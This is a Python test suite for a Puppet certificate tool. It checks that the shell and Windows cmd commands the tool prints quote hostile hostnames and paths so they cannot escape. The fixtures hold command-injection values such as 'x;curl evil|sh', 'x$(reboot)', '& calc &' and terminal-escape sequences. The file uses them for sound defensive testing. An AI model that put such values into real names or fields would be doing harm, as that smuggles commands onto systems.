"""Commands to be pasted do what they say and nothing else, whatever hosts call things."""

from __future__ import annotations

import re
import shlex
import subprocess
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as some

from recert import preflight
from recert.ca_records import CaRecords
from recert.deployments.authority import PUPPET_CERT
from recert.pasted import for_cmd, for_sh
from recert.problems import crl_remedy
from recert.report import Role
from recert.signing import (
    Application,
    judge,
)
from recert.survey import SiteState
from tests.unit.agent import CSRDIR, agent
from tests.unit.issuing_ca import NEW, key_digest, master, read_csr, request_pem
from tests.unit.looks import look_at_agent, look_at_master, site, with_file

NAMES = [
    "web01.example.com",
    "x;curl evil|sh",
    "x$(reboot)",
    "x`reboot`",
    "it's",
    'a"b',
    "a b",
    "-rf",
    "--all",
    "a&&b",
    "a\\",
    "~root",
    "*",
    "#x",
    "!!",
    "%PATH%",
    "é",
]
HIDDEN = ["a\nreboot\n", "a\rb", "a\x1b[201~reboot", "a\x00b", "a\u202eb", "a\udcffb", "\x9b0c"]


def arguments(command: str, shell: str) -> list[str]:
    """What a program would be started with."""
    told = f"puppet() {{ for a; do printf '%s\\0' \"$a\"; done; }}; {command}"
    done = subprocess.run([shell, "-c", told], capture_output=True, check=True)
    assert done.stderr == b""
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("shell", ["dash", "bash"])
@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_one_argument_of_a_shell(name: str, shell: str) -> None:
    command = for_sh("puppet cert clean", name, "other")
    assert arguments(command, shell) == ["cert", "clean", "--", name, "other"]


@pytest.mark.parametrize("name", HIDDEN)
def test_what_a_terminal_would_obey_is_not_in_it(name: str) -> None:
    for command in (for_sh("puppet cert clean", name), for_cmd("del", name)):
        assert command.isprintable()
        assert name not in command


@given(some.text(max_size=20))
def test_whatever_it_is_the_shell_starts_one_program_with_it(name: str) -> None:
    words = shlex.split(for_sh("puppet cert clean", name))
    assert words[:3] == ["puppet", "cert", "clean"]
    assert words[3] == "--" and len(words) == 5
    assert words[4] == name or not name.isprintable()


@given(some.text(max_size=20))
def test_nothing_gets_out_of_a_path_for_cmd(path: str) -> None:
    command = for_cmd("del", path)
    inside = re.fullmatch(r'del "(.*)"', command)
    assert inside is not None
    assert not set(inside[1]) & set('"%!\r\n')
    assert not inside[1].endswith("\\")


def test_a_path_for_cmd_is_as_windows_writes_it() -> None:
    assert for_cmd("del", "C:/Program Files/x & y.pem") == r'del "C:\Program Files\x & y.pem"'


# Where they are printed

EVIL = "x;curl evil|sh"


def test_requests_and_certificates_at_the_master() -> None:
    key = key_digest("k")
    own = read_csr(request_pem(EVIL, key="k"))
    for requests, signed, application in (
        ({EVIL: request_pem(EVIL, key="other")}, {}, own),
        ({EVIL: "garbage"}, {}, own),
        ({}, {EVIL: NEW.issue(EVIL, 5, key="other")}, own),
        ({}, {EVIL: NEW.issue("another", 5)}, own),
        ({}, {EVIL: "garbage"}, own),
    ):
        held = CaRecords(PUPPET_CERT, NEW.certificate, NEW.crl(), requests, signed, csrdir=CSRDIR)
        why = judge(Application(EVIL, key, application, frozenset()), held).why
        assert EVIL in why
        unquoted = re.sub("'[^']*'", "", why.replace("agent's", "").replace("master's", ""))
        assert not re.search(r"(puppet cert|/requests/|Remove).*curl", unquoted)


@pytest.mark.usefixtures("short_keys_will_do")
def test_what_a_survey_advises() -> None:
    found = look_at_master(master())
    found = with_file(found, f"/etc/puppetlabs/puppet/ssl/ca/requests/{EVIL}.pem", "")
    found = with_file(found, f"/etc/puppetlabs/{EVIL}.pem", mode=0o644, key=key_digest("k"))
    found = with_file(found, f"/etc/puppetlabs/puppet/ssl/ca/signed/{EVIL}.pem", "garbage")
    state: SiteState = site(found, named=False)
    advised = [p.remedy for p in state.problems if EVIL in f"{p.subject} {p.remedy}"]
    assert any("puppet cert sign" in remedy for remedy in advised)
    assert any("chmod" in remedy for remedy in advised)
    for remedy in advised:
        unquoted = re.sub("'[^']*'", "", remedy)
        assert "curl" not in unquoted


def test_a_revocation_list_that_has_to_go() -> None:
    look = look_at_agent(agent())
    assert crl_remedy(look, f"/ssl/{EVIL}").startswith(f"rm -- '/ssl/{EVIL}'")
    windows = replace(look, role=Role.WINDOWS_AGENT)
    assert crl_remedy(windows, 'C:/a" & calc & "').startswith(r'del "C:\a\x22 & calc & \x22"')


def test_a_name_under_which_an_agent_looks_for_its_master() -> None:
    (refusal,) = preflight.server_refusals([EVIL], ["puppet"])
    assert "curl" not in re.sub("'[^']*'", "", refusal.partition("Retire")[2])
